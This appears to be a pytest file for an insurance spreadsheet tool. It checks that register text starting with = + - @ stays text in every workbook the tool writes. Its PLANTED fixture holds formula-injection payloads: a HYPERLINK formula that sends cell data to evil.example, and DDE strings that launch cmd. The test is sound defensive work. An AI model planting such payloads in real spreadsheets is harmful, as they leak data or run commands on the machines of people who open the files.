"""Text from registers that starts with = + - @ is written as text in every workbook we write, never
as a formula (ARCHITECTURE.md "Files we touch"; issue 10).

A store is planted with such values in the columns that flow into our outputs (names, plates, claim
and archive numbers, clerks), every command that writes a workbook runs on it, and the XML of every
sheet written is searched for formula elements (<f>). Formulas we write on purpose are in INTENDED
(the reconciliation workbook's SUM totals). Add a command to WRITERS when it lands on main.
"""
from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from insurance_xl.cli import COMMANDS, main
from insurance_xl.reading.store import read_store
from insurance_xl.registers import OUTCOMES

from tests.conftest import sample
from tests.corpus import edit

AS_OF = "2026-11-24"
# the payloads: each starts with one of = + - @, as pasted from a hostile e-mail or a web form
PLANTED = {"customer": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "claim_no": "+1+cmd|' /C calc'!A0",
           "plate": "-2+3", "archive_no": "@SUM(1+1)*cmd|' /C calc'!A0", "clerk": "=1+1", "insurer_receiver": "@人保",
           "adjuster": "=A1", "our_clerk": "+周敏"}
# workbook name pattern → the shape of the formulas written there on purpose (totals over a range)
INTENDED: dict[str, str] = {r"^reconcile": r"SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)"}
# Every command that writes a workbook, as argv templates ({store}, {out}, {filled}); add new ones here.
WRITERS = {
    "overdue": [["overdue", "{store}", "--out", "{out}/催款清单.xlsx"]],
    "calls": [["calls", "{store}", "--out", "{out}/calls"], ["calls", "import", "{filled}", "--into", "{store}"]],
    "validate": [["validate", "{store}", "--out", "{out}/validated.xlsx"]],
    "report": [["report", "{store}", "--month", "2026-10", "--out", "{out}/report.xlsx"]],
    "reconcile": [["reconcile", "{store}", "--month", "2026-10", "--insurer", "人保财险", "--statement", "{statement}",
                   "--out", "{out}/reconcile.xlsx", "--lock"]],
    "region": [["region", "{report}", "--month", "2026-10", "--out", "{out}/region.xlsx"]],  # on report's output
    "templates": [["templates", "{out}/templates"]],
}


def _prefix_cells(xml: bytes, cells: dict[str, str]) -> bytes:
    """Replace the text of the given cells (inline strings, as the sample store holds them)."""
    def swap(match: re.Match) -> bytes:
        new = cells.get(match[1].decode())
        if new is None:
            return match[0]
        text = new.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").encode()
        return b'<c r="' + match[1] + b'"' + match[2] + b'<is><t xml:space="preserve">' + text + b"</t></is></c>"
    return re.sub(rb'(?s)<c r="([A-Z]+\d+)"([^>]*t="inlineStr">)<is>.*?</is></c>', lambda m: swap(m), xml)


@pytest.fixture(scope="module")
def planted_store(tmp_path_factory) -> Path:
    """The sample store with PLANTED values in every row of those columns, consistently (a plate is
    the same planted plate wherever it appears, so registers still join)."""
    registers = read_store(sample("store.xlsx"))
    by_part: dict[str, dict[str, str]] = {}
    with zipfile.ZipFile(sample("store.xlsx")) as archive:
        book = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    part_of = {}
    for name, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"', book):
        target = re.search(rf'Id="{rid}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="{rid}"', rels)
        part_of[name] = "xl/" + (target[1] or target[2]).removeprefix("/xl/").removeprefix("xl/")
    for layout in registers.layouts:
        table = registers[layout.register]
        rows = table[table["_sheet"] == layout.sheet]
        cells = by_part.setdefault(part_of[layout.sheet], {})
        for key, payload in PLANTED.items():
            if key not in layout.columns:
                continue
            letter = layout.columns[key][0]
            for row, value in zip(rows["_row"], rows[key]):
                if isinstance(value, str):
                    cells[f"{letter}{row}"] = payload[0] + value if key in ("plate", "claim_no", "archive_no") else payload
    data = edit(sample("store.xlsx").read_bytes(), lambda name, xml: _prefix_cells(xml, by_part[name]) if name in by_part else xml)
    path = tmp_path_factory.mktemp("planted") / "store.xlsx"
    path.write_bytes(data)
    planted = read_store(path)
    assert planted["policies"]["customer"].str.startswith("=").all()
    assert planted["claims"]["claim_no"].str.startswith("+").all()
    return path


@pytest.fixture(scope="module")
def filled_list(planted_store, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("lists")
    assert main(["calls", str(planted_store), "--settings", str(sample("settings.toml")), "--as-of", AS_OF,
                 "--out", str(out)]) == 0
    path = max(out.glob("*.xlsx"), key=lambda p: p.stat().st_size)
    wb = load_workbook(path)
    for ws in wb.worksheets:
        headers = [c.value for c in ws[3]]
        for row in range(4, ws.max_row + 1):
            ws.cell(row=row, column=headers.index("结果") + 1, value=OUTCOMES[0])
            if "出单员" in headers:
                ws.cell(row=row, column=headers.index("出单员") + 1, value="=1+1")
    wb.save(path)
    return path


def formulas_in(path: Path) -> list[tuple[str, str]]:
    """(part, formula) for every formula element in the workbook's sheets."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [(name, f) for f in re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>([^<]*)</(?:\w+:)?f>", xml)]
                found += [(name, "<f/>") for _ in re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?/>", xml)]
    return found


def test_no_command_writes_a_formula_from_register_text(planted_store, filled_list, tmp_path):
    written_by: dict[str, list[Path]] = {}
    available = {name for name, *_ in COMMANDS}
    ran = []
    report = ""
    for command, templates in WRITERS.items():
        if command not in available:
            continue
        for template in templates:
            work = tmp_path / f"{command}-{len(ran)}"
            (work / "out").mkdir(parents=True)
            store = work / "store.xlsx"
            shutil.copy(planted_store, store)
            values = {"store": str(store), "out": str(work / "out"), "filled": str(filled_list),
                      "statement": str(sample("statement.xlsx")), "report": report}
            argv = [part.format(**values) for part in template]
            if command not in ("templates",):
                argv += ["--settings", str(sample("settings.toml")), "--as-of", AS_OF]
            code = main(argv)
            assert code in (0, 1), (argv, code)
            ran.append(" ".join(template[:2]))
            outputs = sorted((work / "out").rglob("*.xlsx"))
            if command == "report":
                report = str(outputs[0])
            if "import" in template or "--lock" in template:  # these write into the clerk's store too
                outputs.append(store)
            assert outputs, f"{argv} wrote no workbook"
            written_by.setdefault(" ".join(template[:2]), []).extend(outputs)
    assert {"overdue {store}", "calls {store}", "calls import"} <= set(ran)
    unintended = []
    texts_seen = set()
    for command, paths in written_by.items():
        for path in paths:
            allowed = next((shape for pattern, shape in INTENDED.items() if re.search(pattern, path.name)), None)
            unintended += [(command, path.name, part, f) for part, f in formulas_in(path)
                           if not (allowed and re.fullmatch(allowed, f))]
            with zipfile.ZipFile(path) as archive:
                xml = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist() if n.endswith(".xml"))
            texts_seen |= {lead for lead in "=+-@" if re.search(rf"<(?:\w+:)?t[^>]*>{re.escape(lead)}", xml)}
    assert not unintended, unintended[:10]
    assert texts_seen == set("=+-@")  # the planted text did reach the outputs, as text


def test_a_planted_formula_stays_text_when_read_back(planted_store, filled_list, tmp_path):
    store = tmp_path / "store.xlsx"
    shutil.copy(planted_store, store)
    assert main(["calls", "import", str(filled_list), "--into", str(store)]) in (0, 1)
    contacts = read_store(store)["contacts"]
    assert (contacts["clerk"] == "=1+1").any()
    assert not formulas_in(store)
